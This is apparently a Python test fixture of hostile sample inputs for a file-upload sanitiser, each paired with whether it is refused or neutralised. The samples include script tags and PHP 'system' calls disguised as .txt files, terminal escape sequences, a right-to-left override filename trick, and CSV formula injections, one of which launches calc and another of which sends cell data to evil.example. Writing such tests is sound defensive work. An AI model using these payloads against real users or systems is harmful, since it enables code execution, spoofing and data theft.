"""Plain text that a terminal, a browser or a spreadsheet would act on."""

from tests.core.hostile.sample import Sample

SAMPLES = [
    Sample("a page called TXT", "a.txt", lambda: b"<!DOCTYPE html><script>alert(1)</script>",
           refused=("markup",)),
    Sample("a page behind a mark of order", "a.txt",
           lambda: b"\xef\xbb\xbf  <html><script>alert(1)</script>", refused=("markup",)),
    Sample("a page in UTF-16", "a.txt", lambda: "<script>alert(1)</script>".encode("utf-16"),
           refused=("markup",)),
    Sample("PHP called TXT", "a.txt", lambda: b"xin chao <?php system('id') ?>",
           refused=("markup",)),
    Sample("a script called TXT", "a.txt", lambda: b"#!/bin/sh\nid", refused=("markup",)),
    Sample("bytes called TXT", "a.txt", lambda: bytes(range(256)), refused=("not-text",)),
    Sample("a text in an old encoding", "a.txt", lambda: "Kính gửi".encode("cp1258", "replace")
           + b"\xe1\xba", refused=("not-text",)),
    Sample("orders to a terminal", "a.txt", lambda: b"a\x1b]0;x\x07\x1b[2Jb",
           neutralised=("controls",), gone=(b"\x1b",)),
    Sample("text that reads backwards", "a.txt", lambda: "a\u202egpj.exe".encode(),
           neutralised=("controls",), gone=("\u202e".encode(),)),
    Sample("a table that starts a program", "a.csv",
           lambda: b"ten,so\n=cmd|' /C calc'!A0,1\n", neutralised=("formula",), gone=(b"\n=cmd",)),
    Sample("a table that sends data away", "a.csv",
           lambda: b'a;b\n"=HYPERLINK(""http://evil.example?""&A1)";x\n',
           neutralised=("formula",), gone=(b'"=HYPER', b"\n=HYPER")),
    Sample("a formula in full-width signs", "a.csv", lambda: "a,b\n＝1+1,@SUM(1)\n".encode(),
           neutralised=("formula",), gone=("\n＝".encode(), b",@SUM")),
    Sample("a formula behind a tab", "a.csv", lambda: b'a,b\n"\t=1+1",2\n',
           neutralised=("formula",), gone=(b'"\t=',)),
    Sample("a table with one endless cell", "a.csv", lambda: b'"' + b"a" * 500_000,
           refused=("unreadable",)),
]  # fmt: skip
